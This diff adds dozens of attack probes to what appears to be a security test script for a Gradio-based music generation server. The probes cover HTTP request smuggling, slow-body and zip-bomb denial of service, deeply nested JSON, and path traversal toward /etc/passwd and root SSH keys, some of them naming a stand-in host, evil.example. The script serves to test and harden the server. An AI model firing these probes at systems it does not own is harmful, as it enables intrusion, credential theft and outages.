@@ -11,6 +11,7 @@ from __future__ import annotations
 import argparse
 import contextlib
 import gzip
+import io
 import json
 import os
 import random
@@ -20,6 +21,7 @@ import subprocess
 import sys
 import tempfile
 import time
+import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
@@ -188,6 +190,112 @@ def _head(target: Target, *lines: str, version: str = "1.1", first: str = "GET /
     return target.raw("\r\n".join([f"{first} HTTP/{version}", *lines, "", ""]).encode(), ends=True)
 
 
+def _smuggled(target: Target) -> int:
+    """Hide a second request behind the chunks of a first one that also has a length."""
+    return target.raw(
+        f"POST /gradio_api/cancel HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 60\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /gradio_api/file=/etc/passwd HTTP/1.1\r\nX: ".encode(),
+        ends=True,
+    )
+
+
+def _chunked(target: Target, path: str, chunks: bytes, kind: str = "application/json") -> int:
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: {kind}\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n"
+    )
+    return target.raw(head.encode() + chunks, ends=True)
+
+
+def _stored(target: Target, content: bytes, name: str) -> str:
+    """Upload a file and return its path, "" if it was refused."""
+    with target.connect() as line:
+        body = part("files", name, content) + END
+        line.sendall(
+            f"POST /gradio_api/upload HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: {MULTIPART}\r\n"
+            f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n".encode()
+            + body
+        )
+        answer = b""
+        with contextlib.suppress(OSError):
+            while piece := line.recv(65_536):
+                answer += piece
+    found = re.search(rb'\["([^"]+)"\]', answer)
+    return found[1].decode() if found else ""
+
+
+def _ranges(target: Target, ranges: str) -> int:
+    """Ask for ranges of a file that is there."""
+    path = _stored(target, bytes(100_000), "ranges.wav")
+    return target.ask(f"/gradio_api/file={path}", None, "", f"Range: {ranges}")
+
+
+def _lora(target: Target, content: bytes, name: str) -> int:
+    """Ask for a song with a LoRA of these bytes, which has to be refused before it waits in the queue."""
+    path = _stored(target, content, name)
+    values = song(options={"loras": [{"source": path, "weight": 1}], "steps": 0})
+    return target.call("call/v2/generate", values)
+
+
+def _zip_of_zeros() -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
+        for number in range(20):
+            file.writestr(f"{number}.safetensors", bytes(5_000_000))
+    return made.getvalue()
+
+
+def _header_only(length: int, text: bytes) -> bytes:
+    """Return the start of a safetensors file whose header has this text and says it has this length."""
+    return length.to_bytes(8, "little") + text
+
+
+def _slow_bodies(target: Target) -> int:
+    """Send most of twenty large bodies and keep them waiting for their ends."""
+    for _ in range(20):
+        line = target.connect()
+        with contextlib.suppress(OSError):
+            line.sendall(
+                f"POST /gradio_api/queue/join HTTP/1.1\r\nHost: {target.host}\r\n"
+                "Content-Type: application/json\r\nContent-Length: 4000000\r\n\r\n".encode()
+                + bytes(2_000_000)
+            )
+        target.keep(line)
+    return CLOSED
+
+
+def _broken_task(target: Target) -> int:
+    """Begin a task with a file for the official API, and break off."""
+    with target.connect() as line, contextlib.suppress(OSError):
+        line.sendall(
+            f"POST /release_task HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: {MULTIPART}\r\n"
+            "Content-Length: 90000000\r\n\r\n".encode()
+        )
+        line.sendall(part("src_audio", "broken.wav", bytes(3_000_000))[:-2])
+    return CLOSED
+
+
+def _websocket(target: Target, path: str) -> int:
+    """Ask for a websocket and send frames without waiting for the answer."""
+    head = (
+        f"GET {path} HTTP/1.1\r\nHost: {target.host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+    )
+    return target.raw(head.encode() + b"\x81\xff" + b"\xff" * 200, ends=True)
+
+
+def _chat(target: Target, **values: object) -> int:
+    return target.ask("/v1/chat/completions", json.dumps(values).encode())
+
+
+def _sound(data: str, kind: str = "wav") -> list[object]:
+    audio = {"type": "input_audio", "input_audio": {"data": data, "format": kind}}
+    return [{"role": "user", "content": [audio]}]
+
+
+DEEP = b"[" * 100_000
+DEEP_TEXT = "[" * 50_000
+
 ATTACKS: dict[str, Attack] = {
     # how a request is written
     "two lengths": lambda t: _head(t, f"Host: {t.host}", "Content-Length: 1", "Content-Length: 2"),
@@ -328,6 +436,125 @@ ATTACKS: dict[str, Attack] = {
     "everything else by HEAD": lambda t: max(t.ask(f"/{path}", None, "HEAD") for path in EVERYTHING_ELSE),
     "every page by OPTIONS": lambda t: t.ask("/gradio_api/upload", None, "OPTIONS", "Origin: https://evil.example"),
     "an upload from another site": lambda t: t.upload(FILE, MULTIPART, "Origin: https://evil.example"),
+    # how a request is written, once more
+    "a space before the colon": lambda t: _head(t, f"Host: {t.host}", "Content-Length : 5"),
+    "a length with a sign": lambda t: _head(t, f"Host: {t.host}", "Content-Length: +5"),
+    "a length of 10^40": lambda t: _head(t, f"Host: {t.host}", "Content-Length: 1" + "0" * 40, first="POST /config"),
+    "two encodings of a body": lambda t: _head(t, f"Host: {t.host}", "Transfer-Encoding: chunked, identity"),
+    "a smuggled request": _smuggled,
+    "a chunk with an extension of 60 kB": lambda t: _chunked(
+        t, "/gradio_api/cancel", b"2;" + b"a" * 60_000 + b"\r\n{}\r\n0\r\n\r\n"
+    ),
+    "trailers of 60 kB": lambda t: _chunked(
+        t, "/gradio_api/cancel", b"2\r\n{}\r\n0\r\nX-A: " + b"a" * 60_000 + b"\r\n\r\n"
+    ),
+    "4,000 chunks of a byte": lambda t: _chunked(t, "/gradio_api/cancel", b"1\r\n \r\n" * 4000 + b"0\r\n\r\n"),
+    "lines without a carriage return": lambda t: t.raw(f"GET / HTTP/1.1\nHost: {t.host}\n\n".encode(), ends=True),
+    "a host behind a name": lambda t: _head(t, f"Host: {t.host}@evil.example"),
+    "a host of letters from elsewhere": lambda t: _head(t, "Host: 127\u30020.0.1".encode().decode("latin-1")),
+    "another method by a header": lambda t: t.ask("/config", None, "", "X-HTTP-Method-Override: DELETE"),
+    "a token of 60 kB": lambda t: t.ask("/v1/models", None, "", "Authorization: Bearer " + "a" * 60_000),
+    "a question of 5,000 names": lambda t: t.ask("/gradio_api/info?" + "&".join(f"a{i}=1" for i in range(5000))),
+    "an encoded route": lambda t: t.ask("/%67radio_api/%75pload", part("n", content=bytes(3_000_000)), kind=MULTIPART),
+    "a route through dots": lambda t: t.ask("/gradio_api/./queue/../upload", FILE, kind=MULTIPART),
+    "a route in capitals": lambda t: t.ask("/GRADIO_API/UPLOAD", FILE, kind=MULTIPART),
+    "a route with a null": lambda t: t.ask("/gradio_api/call/generate%00", b"{}"),
+    "a websocket with frames": lambda t: max(_websocket(t, path) for path in ("/", "/gradio_api/queue/join", "/runs")),
+    "bodies that wait for their ends": _slow_bodies,
+    # files
+    "1,000 ranges": lambda t: _ranges(t, "bytes=" + ",".join(f"{i}-{i + 1}" for i in range(0, 3000, 3))),
+    "the same range 1,000 times": lambda t: _ranges(t, "bytes=" + ",".join(["0-"] * 1000)),
+    "ranges the wrong way round": lambda t: _ranges(t, "bytes=9-1,-0,5-4"),
+    "a range from the end of time": lambda t: _ranges(t, f"bytes=-{'9' * 40}"),
+    "a range in other words": lambda t: _ranges(t, "\u0661-"),
+    "a file with a long name": lambda t: t.ask(f"/gradio_api/file=/{'a' * 5000}"),
+    "a file in 3,000 folders": lambda t: t.ask(f"/gradio_api/file={'/a' * 3000}"),
+    "a file of Windows": lambda t: t.ask("/gradio_api/file=C:%5CWindows%5Cwin.ini"),
+    "a file of a neighbour": lambda t: t.ask("/gradio_api/file=//evil.example/share/x"),
+    "a file at home": lambda t: t.ask("/gradio_api/file=~root/.ssh/id_rsa"),
+    "the folder itself": lambda t: t.ask(f"/gradio_api/file={_stored(t, b'x', 'a.wav').rpartition('/')[0]}"),
+    "a file below a file": lambda t: t.ask(f"/gradio_api/file={_stored(t, b'x', 'a.wav')}/b"),
+    "a name of 100 kB": lambda t: t.upload(part("files", "a" * 100_000) + END),
+    "a name of half letters": lambda t: t.upload(FILE.replace(b"a.wav", b"\xed\xa0\x80.wav")),
+    "a packed upload": lambda t: t.upload(gzip.compress(FILE), MULTIPART, "Content-Encoding: gzip"),
+    "an upload with 100 ids": lambda t: t.ask(
+        "/gradio_api/upload?" + "&".join(f"upload_id={i}" for i in range(100)), FILE, kind=MULTIPART
+    ),
+    "a LoRA's header of 2^62 bytes": lambda t: _lora(t, _header_only(2**62, b"{}"), "a.safetensors"),
+    "a LoRA's header that is deep": lambda t: _lora(t, _header_only(len(DEEP), DEEP), "a.safetensors"),
+    "a zip of zeros": lambda t: _lora(t, _zip_of_zeros(), "a.zip"),
+    "a LoRA of the system": lambda t: t.call(
+        "call/v2/generate", song(options={"loras": [{"source": "/etc/passwd"}], "steps": 0})
+    ),
+    # runs
+    "a run with line breaks": lambda t: t.ask("/runs/a%0d%0aX-A:%20b%0a/events"),
+    "a run of 60 kB": lambda t: t.ask("/runs/" + "a" * 60_000),
+    "events after an Arabic number": lambda t: t.ask(f"/runs/{'a' * 32}/events?after=%D9%A3"),
+    "an event that is no number": lambda t: t.ask(f"/runs/{'a' * 32}/events", None, "", "Last-Event-ID: -1"),
+    "a run that is cancelled by GET": lambda t: t.ask(f"/runs/{'a' * 32}/cancel"),
+    "a session that looks like an event": lambda t: t.call(
+        "queue/join", {"data": [], "fn_index": 1, "session_hash": "a\n\ndata: {}"}
+    ),
+    "a trigger and an event from nowhere": lambda t: t.call(
+        "queue/join",
+        {"data": [], "fn_index": 1, "session_hash": "a", "trigger_id": {}, "event_data": {"target": [[]]}},
+    ),
+    # MCP
+    "MCP by GET and DELETE": lambda t: max(
+        t.ask("/gradio_api/mcp/", None, method, "Accept: application/json, text/event-stream", "Mcp-Session-Id: \u2028")
+        for method in ("DELETE", "PUT", "HEAD")
+    ),
+    "MCP that is deep": lambda t: t.call("mcp/", b'{"jsonrpc": "2.0", "method": "ping", "id": ' + DEEP),
+    "MCP of a version to come": lambda t: t.call(
+        "mcp/", {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "9" * 10_000}}
+    ),
+    "MCP with parameters in a list": lambda t: t.call(
+        "mcp/", {"jsonrpc": "2.0", "id": 1e308, "method": "tools/call", "params": [1, 2]}
+    ),
+    "an MCP tool with half a letter": lambda t: t.call(
+        "mcp/",
+        b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"capabilities","arguments":{"\\ud800":1}}}',
+    ),
+    "an MCP answer to no question": lambda t: t.call("mcp/", {"jsonrpc": "2.0", "id": 1, "result": {}}),
+    # the official API
+    "a song above": lambda t: max(
+        t.ask(f"/v1/audio?path={path}")
+        for path in ("..%2f..%2fetc%2fpasswd", "/etc/passwd", "%00", "acestep/" + "a" * 32 + "/1.mp3", "a" * 5000)
+    ),
+    "a task that is deep": lambda t: t.ask("/release_task", DEEP),
+    "a task with depth in a text": lambda t: t.ask(
+        "/release_task", json.dumps({"param_obj": DEEP_TEXT, "metas": DEEP_TEXT, "audio_duration": 1e999}).encode()
+    ),
+    "a task of 600 fields": lambda t: t.ask(
+        "/release_task",
+        "&".join(f"a{i}=1" for i in range(600)).encode(),
+        kind="application/x-www-form-urlencoded",
+    ),
+    "a task with five files": lambda t: t.ask(
+        "/release_task", b"".join(part(f"f{i}", "a.wav") for i in range(5)) + END, kind=MULTIPART
+    ),
+    "a task with a text of 3 MB": lambda t: t.ask(
+        "/release_task", part("prompt", content=bytes(3_000_000)) + END, kind=MULTIPART
+    ),
+    "a task that breaks off": _broken_task,
+    "a task with a file of the system": lambda t: t.ask(
+        "/release_task", b'{"task_type": "cover", "src_audio_path": "/etc/passwd", "prompt": "x"}'
+    ),
+    "10,000 tasks at once": lambda t: t.ask(
+        "/query_result", json.dumps({"task_id_list": json.dumps(["a" * 32] * 10_000)}).encode()
+    ),
+    "tasks in depth": lambda t: t.ask("/query_result", json.dumps({"task_id_list": DEEP_TEXT}).encode()),
+    "a model from elsewhere": lambda t: t.ask("/v1/init", b'{"model": "../../etc", "slot": [], "init_llm": {}}'),
+    "a LoRA from elsewhere": lambda t: max(
+        t.ask("/v1/lora/load", json.dumps({"lora_path": path}).encode())
+        for path in ("/etc/passwd", "../..", "\0", "a" * 5000, "https://evil.example/x.safetensors", "\ud800")
+    ),
+    "a LoRA's scale of nothing": lambda t: t.ask("/v1/lora/scale", b'{"scale": NaN}'),
+    "a chat without words": lambda t: _chat(t, messages=[{"role": "user", "content": []}] * 10_000),
+    "a chat with a sound that is none": lambda t: _chat(t, messages=_sound("data:audio/wav;base64,%%%%", "../../x")),
+    "a chat with 20 MB of nothing": lambda t: _chat(t, messages=_sound("A" * 20_000_000), seed=[[]]),
+    "a chat that is deep": lambda t: t.ask("/v1/chat/completions", b'{"messages": ' + DEEP),
+    "a chat of numbers": lambda t: _chat(t, messages=7, seed=float("nan"), audio_config=[[]]),
     "an upload from nowhere": lambda t: t.upload(FILE, MULTIPART, "Origin: null", "Sec-Fetch-Site: cross-site"),
 }  # fmt: skip
 
